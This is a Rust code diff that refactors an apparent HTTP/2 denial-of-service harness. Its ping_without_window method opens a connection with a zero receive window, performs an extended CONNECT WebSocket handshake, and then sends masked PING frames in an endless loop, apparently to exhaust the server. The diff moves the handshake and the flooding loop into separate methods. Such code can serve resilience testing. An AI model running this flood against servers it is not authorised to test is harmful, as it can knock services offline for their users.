@@ -5,6 +5,8 @@ use std::time::Instant;
 
 use anyhow::{Context, Result, ensure};
 use bytes::Bytes;
+use h2::SendStream;
+use h2::client::{ResponseFuture, SendRequest};
 use h2::ext::Protocol;
 use http::{Method, Request};
 
@@ -46,52 +48,60 @@ impl Attackers {
 
     async fn ping_without_window(&self, has_attacked: &mut bool) -> Result<()> {
         let socket = tokio::net::TcpStream::connect(self.target.addr).await?;
-        let (mut client, mut connection) = h2::client::Builder::new()
+        let (client, mut connection) = h2::client::Builder::new()
             .initial_window_size(0)
-            .handshake::<_, Bytes>(socket)
+            .handshake(socket)
             .await?;
         let attack = async {
-            client = client.ready().await?;
-            // Not before the server's SETTINGS have come (RFC8441§3).
-            let deadline = Instant::now() + handshake::OPEN_TIMEOUT;
-            while !client.is_extended_connect_protocol_enabled() {
-                ensure!(
-                    Instant::now() < deadline,
-                    "the server has no extended CONNECT"
-                );
-                tokio::time::sleep(PAUSE).await;
-                ensure!(!self.is_over(), "the server has no extended CONNECT");
-            }
-            let (addr, path) = (self.target.addr, &self.target.path);
-            let mut request = Request::builder()
-                .method(Method::CONNECT)
-                .uri(format!("http://{addr}{path}"))
-                .header("sec-websocket-version", "13")
-                .body(())?;
-            request
-                .extensions_mut()
-                .insert(Protocol::from_static("websocket"));
-            let (response, mut stream) = client.send_request(request, false)?;
+            let (response, stream) = self.open_stream(client).await?;
             let status = response.await?.status();
             ensure!(status == 200, "the handshake was refused: {status}");
             *has_attacked = true;
-            let ping = frame::masked(frame::PING, &[]);
-            let data = Bytes::from(ping.repeat(PINGS_IN_DATA));
-            loop {
-                stream.reserve_capacity(data.len());
-                while stream.capacity() < data.len() {
-                    let more = std::future::poll_fn(|cx| stream.poll_capacity(cx)).await;
-                    more.context("the stream has ended")??;
-                }
-                stream.send_data(data.clone(), false)?;
-                self.made(PINGS_IN_DATA);
-            }
+            self.send_pings(stream).await
         };
         // The connection does what all its streams need, and it ends with the attack.
         tokio::select! {
             result = attack => result,
             ended = &mut connection => Ok(ended?),
             () = self.until_over() => Ok(()),
+        }
+    }
+
+    /// An extended CONNECT (RFC8441§4), which has to wait until the server's SETTINGS allow it (RFC8441§3).
+    async fn open_stream(
+        &self,
+        client: SendRequest<Bytes>,
+    ) -> Result<(ResponseFuture, SendStream<Bytes>)> {
+        let mut client = client.ready().await?;
+        let deadline = Instant::now() + handshake::OPEN_TIMEOUT;
+        while !client.is_extended_connect_protocol_enabled() {
+            ensure!(
+                Instant::now() < deadline && !self.is_over(),
+                "the server has no extended CONNECT"
+            );
+            tokio::time::sleep(PAUSE).await;
+        }
+        let (addr, path) = (self.target.addr, &self.target.path);
+        let request = Request::builder()
+            .method(Method::CONNECT)
+            .uri(format!("http://{addr}{path}"))
+            .header("sec-websocket-version", "13")
+            .extension(Protocol::from_static("websocket"))
+            .body(())?;
+        Ok(client.send_request(request, false)?)
+    }
+
+    async fn send_pings(&self, mut stream: SendStream<Bytes>) -> Result<()> {
+        let ping = frame::masked(frame::PING, &[]);
+        let data = Bytes::from(ping.repeat(PINGS_IN_DATA));
+        loop {
+            stream.reserve_capacity(data.len());
+            while stream.capacity() < data.len() {
+                let more = std::future::poll_fn(|cx| stream.poll_capacity(cx)).await;
+                more.context("the stream has ended")??;
+            }
+            stream.send_data(data.clone(), false)?;
+            self.made(PINGS_IN_DATA);
         }
     }
 
